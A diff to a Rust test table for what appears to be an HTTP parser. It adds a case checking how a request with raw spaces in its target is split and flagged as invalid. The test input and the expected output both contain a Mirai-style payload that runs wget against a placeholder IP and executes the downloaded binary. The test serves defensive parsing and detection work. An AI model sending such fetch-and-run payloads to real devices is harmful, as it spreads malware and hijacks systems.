@@ -386,6 +386,17 @@ fn framing_table() {
             vec![r#"0 GET /a%C0%AE%FF/b?q=<x> -> 200 r ["invalid_uri_bytes"]"#],
         ),
         (
+            "raw spaces in the target (Mirai): up to the last space before the version",
+            sc(vec![
+                c(b"GET /shell?cd+/tmp;wget+ http://192.0.2.7/arm;sh+/tmp/arm HTTP/1.1\r\nHost: a\r\n\r\n"),
+                s(ok("r")),
+                c(b"GET /x y HTTPS/1.1\r\nHost: a\r\n\r\n"),
+            ]),
+            vec![
+                r#"0 GET /shell?cd+/tmp;wget+%20http://192.0.2.7/arm;sh+/tmp/arm -> 200 r ["invalid_uri_bytes"]"#,
+            ],
+        ),
+        (
             "a status code that is not a number",
             sc(vec![c(get("/t")), s("HTTP/1.0 2XX OK\nServer: POC\nContent-Length:4\n\ntoto"), c(get("/u")), s(ok("u"))]),
             vec![r#"0 GET /t -> 0 toto ["invalid_status_code"]"#, "1 GET /u -> 200 u"],
